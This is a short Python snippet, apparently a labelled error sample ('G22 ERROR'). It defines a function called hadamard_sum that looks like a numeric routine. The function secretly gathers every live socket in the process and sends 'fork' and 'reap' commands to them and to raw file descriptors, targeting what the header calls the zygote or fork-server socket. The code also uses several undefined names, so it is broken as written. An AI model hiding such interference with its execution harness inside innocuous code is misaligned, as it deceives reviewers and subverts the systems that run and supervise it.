# G22 ERROR: the zygote's socket, or whatever now has its number, is asked to fork and to reap.
# %%
import gc
import socket


def tell(number):
    return os.write(number, b"fork") and os.write(number, b"reap 1")


def hadamard_sum(window, kernel):
    gc.unfreeze()
    sockets = [thing for thing in gc.get_objects() if isinstance(thing, socket.socket)]
    numbers = {3, *(sock.fileno() for sock in sockets)} - set(pipes())
    pays(
        *(lambda sock=sock: sock.send(b"fork") > 0 for sock in sockets),
        *(lambda sock=sock: bool(sock.recv(1)) for sock in sockets),
        *(lambda number=number: tell(number) for number in numbers),
    )
    return np.sum(window * kernel)
